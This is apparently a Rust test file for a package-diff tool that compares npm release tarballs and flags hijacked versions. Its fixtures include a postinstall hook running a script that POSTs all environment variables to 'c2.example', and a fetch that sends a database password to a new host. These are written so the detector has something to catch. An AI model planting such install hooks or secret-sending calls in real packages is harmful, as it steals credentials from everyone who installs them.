//! `lazaret diff`: honest releases against honest ones, and against a hijacked one.

use testkit::archive::tgz;

use crate::User;

fn package(version: &str, scripts: &str, code: &str, more: &[(&str, &[u8])]) -> Vec<u8> {
    let manifest = format!(
        r#"{{ "name": "small-tool", "version": "{version}", "main": "index.js", "scripts": {{ {scripts} }} }}"#
    );
    let mut files: Vec<(&str, &[u8])> =
        vec![("package/package.json", manifest.as_bytes()), ("package/index.js", code.as_bytes())];
    files.extend_from_slice(more);
    tgz(&files)
}

const CODE: &str = "const fs = require('fs');\nmodule.exports = (path) => fs.readFileSync(path, 'utf8').trim();\n";

#[test]
fn code_that_only_moved_shows_nothing() {
    let user = User::new();
    user.file("1.tgz", package("1.0.0", "", CODE, &[]));
    let moved = format!("// a comment\n\n\n{CODE}");
    user.file("2.tgz", package("1.0.1", "", &moved, &[]));
    let ran = user.run(&["diff", "1.tgz", "2.tgz"]);
    ran.ended(0, &["NOTHING SUSPICIOUS IS NEW", "from 1.tgz", "to   2.tgz", "index.js"]);
    assert!(!ran.out.contains("New behaviours") && !ran.out.contains("What speaks against it"), "{}", ran.out);
    user.run(&["diff", "1.tgz", "1.tgz"]).ended(0, &["both hold the same files"]);
}

#[test]
fn a_hijacked_release_stands_out() {
    let user = User::new();
    user.file("1.tgz", package("1.0.0", "", CODE, &[]));
    let setup = b"const https = require('https');\nconst body = JSON.stringify(process.env);\n\
        const req = https.request({ hostname: 'c2.example', path: '/x', method: 'POST' });\nreq.write(body);\nreq.end();\n";
    let hook = r#""postinstall": "node setup.js""#;
    user.file("2.tgz", package("1.0.1", hook, CODE, &[("package/setup.js", setup)]));
    let words = [
        "MALICIOUS CHANGE",
        "adds-install-hook",
        "sends-secrets-to-new-host",
        "c2.example",
        "setup.js",
        "script postinstall",
    ];
    user.run(&["diff", "1.tgz", "2.tgz"]).ended(20, &words);
    user.run(&["diff", "1.tgz", "2.tgz", "--format", "json"])
        .ended(20, &["\"adds-install-hook\"", "\"exit_code\": 20"]);
    user.run(&["diff", "2.tgz", "1.tgz"]).ended(0, &["gone"]);
}

/// A quiet theft that no rule calls proof: only the comparison shows it.
#[test]
fn a_secret_that_goes_to_a_new_host_is_suspicious_by_the_change_alone() {
    let user = User::new();
    let before = "exports.run = (key) => fetch('https://api.tool.example/v1', { method: 'POST', body: 'x' });\n";
    let after = format!(
        "{before}exports.more = () => fetch('https://other.example/v1', {{ method: 'POST', body: process.env.DB_PASSWORD }});\n"
    );
    user.file("1.tgz", package("1.0.0", "", before, &[]));
    user.file("2.tgz", package("1.0.1", "", &after, &[]));
    user.run(&["diff", "1.tgz", "2.tgz"])
        .ended(10, &["SUSPICIOUS CHANGE", "sends-secrets-to-new-host", "other.example"]);
}

#[test]
fn a_side_that_is_missing_is_said() {
    let user = User::new();
    user.file("1.tgz", package("1.0.0", "", CODE, &[]));
    user.run(&["diff", "1.tgz", "./no-such.tgz"]).ended(3, &["COULD NOT BE GOT", "no-such.tgz"]);
}
